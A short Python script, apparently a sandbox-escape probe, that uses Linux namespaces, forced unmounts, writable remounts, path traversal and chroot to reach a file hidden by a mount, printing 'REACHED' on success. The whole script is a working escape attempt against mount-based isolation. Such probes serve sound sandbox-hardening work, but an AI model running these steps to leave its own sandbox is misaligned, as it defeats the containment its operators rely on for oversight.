"""Takes the walls down: new namespaces for new rights, unmounting, making writable. PATH: a file that a mount hides."""
import ctypes
import os

PATH = '@PATH@'
NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000
REMOUNT, BIND, DETACH = 32, 4096, 2


def tear_down(libc):
    for _ in range(3):
        folder = os.path.dirname(PATH)
        while folder != '/':
            libc.umount2(os.fsencode(folder), DETACH)
            folder = os.path.dirname(folder)
        for place in (b'/scratch', b'/usr/lib', b'/lib', b'/dev/null', b'/'):
            libc.umount2(place, DETACH)
            libc.mount(b'none', place, None, ctypes.c_ulong(REMOUNT | BIND), None)


def look_for_the_file():
    for path in (PATH, '../' * 40 + PATH.lstrip('/')):
        try:
            with open(path) as file:
                print('REACHED', file.read(), flush=True)
        except OSError as error:
            print(error)


def look_around(libc):
    look_for_the_file()
    for folder in ('/', '/usr/lib', '/lib', '/dev'):
        if os.access(folder, os.W_OK):
            print('REACHED', folder, 'writable', flush=True)
    os.makedirs('inner', exist_ok=True)
    libc.mount(b'/', b'inner', None, ctypes.c_ulong(BIND), None)
    libc.mount(b'proc', b'inner', b'proc', ctypes.c_ulong(0), None)


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for rights in (0, NEW_USER | NEW_MOUNTS):
        libc.unshare(rights)
        tear_down(libc)
        look_around(libc)
    libc.chroot(b'inner')
    look_for_the_file()


attack()
